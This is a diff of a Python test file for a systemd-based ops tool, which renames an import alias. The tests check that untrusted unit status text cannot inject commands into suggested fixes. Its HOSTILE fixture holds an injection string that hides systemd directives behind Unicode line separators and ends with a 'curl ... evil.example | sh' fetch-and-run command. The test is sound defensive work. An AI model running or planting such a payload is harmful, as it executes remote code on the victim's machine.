@@ -10,7 +10,7 @@ import sys
 import pytest
 
 from spyglass.ops import app_status, command_table, systemctl, untrusted_text
-from spyglass.ops.doctor_checks import units as traps
+from spyglass.ops.doctor_checks import units as unit_checks
 
 HOSTILE = [
     "failing: RuntimeError: x\u2028WantedBy=multi-user.target\u2028Id=spyglass@a; curl -s http://evil.example/x | sh #",
@@ -116,8 +116,8 @@ def test_one_app_says_what_it_likes_and_the_others_are_shown(systemd, status, st
 def test_no_command_is_made_of_what_it_says(systemd, status):
     systemd.status = status
     units = [f"spyglass@b.{kind}" for kind in ("socket", "service")]
-    found = systemctl.show(units, dict.fromkeys((*app_status.PROPERTIES, *traps.PROPERTIES)))
-    for finding in traps.examine("b", *found.values()):
+    found = systemctl.show(units, dict.fromkeys((*app_status.PROPERTIES, *unit_checks.PROPERTIES)))
+    for finding in unit_checks.examine("b", *found.values()):
         assert not any(
             "evil" in command or "shadow" in command or "spyglass@a" in command
             for command in finding.cure
@@ -126,7 +126,7 @@ def test_no_command_is_made_of_what_it_says(systemd, status):
 
 def test_a_name_is_quoted_for_the_shell():
     service = {"Id": "spyglass@a\\x2db.service", "LoadState": "masked"}
-    [first, *_] = traps.examine("a\\x2db", {"Id": "spyglass@a\\x2db.socket"}, service)
+    [first, *_] = unit_checks.examine("a\\x2db", {"Id": "spyglass@a\\x2db.socket"}, service)
     assert first.cure == ["systemctl unmask 'spyglass@a\\x2db.service'"]
 
 
